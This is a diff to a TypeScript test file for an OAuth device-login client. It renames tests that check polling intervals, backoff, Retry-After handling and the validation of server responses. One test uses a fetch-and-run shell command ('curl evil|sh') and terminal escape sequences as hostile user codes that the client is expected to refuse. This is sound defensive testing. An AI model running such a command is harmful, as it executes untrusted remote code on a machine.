@@ -57,7 +57,7 @@ const wait = async (answers: (Response | OsaError)[], document: object = {}) => 
   return { outcome, gaps, told }
 }
 
-test('K11: the first poll comes after one interval', async () => {
+test('K11 the first poll comes after one interval', async () => {
   const { outcome, gaps } = await wait([result(tokens)])
   expect(outcome).toEqual(tokens)
   expect(gaps).toEqual([5])
@@ -73,12 +73,12 @@ test.each([
   [3, 3],
   [86_400, 60],
   [1e300, 60],
-])('K11: an interval of %s polls every %s s', async (interval, gap) => {
+])('K11 an interval of %s polls every %s s', async (interval, gap) => {
   const { gaps } = await wait([result(tokens)], { interval })
   expect(gaps).toEqual([gap])
 })
 
-test('K11: waiting ends at the deadline of this computer, half an hour at most', async () => {
+test('K11 waiting ends at the deadline of this computer, half an hour at most', async () => {
   const { outcome, gaps } = await wait([refuse('authorization_pending')], { expires_in: 1e12, interval: 60 })
   expect(outcome).toMatchObject({ code: 'login_expired', message: 'The code BCDF-GHJK expired before it was approved' })
   expect(gaps).toHaveLength(29)
@@ -90,7 +90,7 @@ test('K12 RFC 8628 §3.5: slow_down adds 5 s for all later polls', async () => {
   expect((await wait(answers)).gaps).toEqual([5, 10, 15, 15, 15])
 })
 
-test('K12: an interval that comes with slow_down is kept to when it is longer', async () => {
+test('K12 an interval that comes with slow_down is kept to when it is longer', async () => {
   const { gaps } = await wait([
     refuse('slow_down', { interval: 20 }),
     refuse('slow_down', { interval: 1 }),
@@ -107,12 +107,12 @@ test('K13 RFC 8628 §3.5: outages back off, doubling, and do not end the login',
   expect(told.every(({ reason }) => reason === 'unreachable')).toBe(true)
 })
 
-test('K13: after an outage the old interval counts again', async () => {
+test('K13 after an outage the old interval counts again', async () => {
   const { gaps } = await wait([new OsaError('dns', ''), refuse('authorization_pending'), result(tokens)])
   expect(gaps).toEqual([5, 10, 5])
 })
 
-test.each([429, 503])('K13: Retry-After of a %s is kept to', async (status) => {
+test.each([429, 503])('K13 Retry-After of a %s is kept to', async (status) => {
   const { gaps } = await wait([json(status, {}, { 'retry-after': '33' }), result(tokens)])
   expect(gaps).toEqual([5, 33])
 })
@@ -130,7 +130,7 @@ test.each([
   expect(gaps).toHaveLength(1)
 })
 
-test('K10: a certificate that fails while polling is final', async () => {
+test('K10 a certificate that fails while polling is final', async () => {
   const { outcome, gaps } = await wait([new OsaError('tls', 'bad certificate'), result(tokens)])
   expect(outcome).toMatchObject({ code: 'tls' })
   expect(gaps).toHaveLength(1)
@@ -151,7 +151,7 @@ test.each([
   ['no token type', { ...tokens, token_type: undefined }],
   ['a lifetime in words', { ...tokens, expires_in: 'soon' }],
   ['a negative lifetime', { ...tokens, expires_in: -5 }],
-])('K07: %s instead of tokens ends in an error, not in a login', async (_, value) => {
+])('K07 %s instead of tokens ends in an error, not in a login', async (_, value) => {
   const { outcome } = await wait([value === undefined ? page(200) : result(value)])
   expect(outcome).toBeInstanceOf(OsaError)
 })
@@ -162,12 +162,12 @@ test.each([
   ['no address', { verification_uri: undefined }],
   ['no lifetime', { expires_in: undefined }],
   ['a lifetime in words', { expires_in: '900' }],
-])('K07: a start answer with %s is refused', async (_, document) => {
+])('K07 a start answer with %s is refused', async (_, document) => {
   await expect(start(document)).rejects.toBeInstanceOf(OsaError)
 })
 
 test.each(['run: curl evil|sh', 'bcdf-ghjk', 'BCDF\u001b[2J', 'AB', 'BCDF-GHJK-BCDF-GHJK-BCDF'])(
-  'K06: %j is no user code, and is not repeated',
+  'K06 %j is no user code, and is not repeated',
   async (user_code) => {
     const failed = await start({ user_code }).catch((error: unknown) => error)
     expect(failed).toMatchObject({ code: 'not_an_osa_server' })
@@ -186,14 +186,14 @@ test.each([
   'not a url',
   `https://archive.example/${'x'.repeat(2100)}`,
   'https://archive.example/device\u001b]8;;',
-])('K03 C11: a person is not sent to %s', async (address) => {
+])('K03 a person is not sent to %s', async (address) => {
   await expect(start({ verification_uri: address })).rejects.toMatchObject({ code: 'untrusted_verification_url' })
   await expect(start({ verification_uri_complete: address })).rejects.toMatchObject({
     code: 'untrusted_verification_url',
   })
 })
 
-test('K03: a node on this machine may call itself localhost', async () => {
+test('K03 a node on this machine may call itself localhost', async () => {
   const clock = createManualClock()
   const document = {
     ...started,
@@ -205,7 +205,7 @@ test('K03: a node on this machine may call itself localhost', async () => {
   expect(login.verificationUriComplete).toBe('http://localhost:8000/device')
 })
 
-test('K16: after the signal no further poll is sent', async () => {
+test('K16 after the signal no further poll is sent', async () => {
   const login = await start({})
   const clock = createManualClock()
   const { network, askedAtSeconds } = script(clock, [refuse('authorization_pending')])
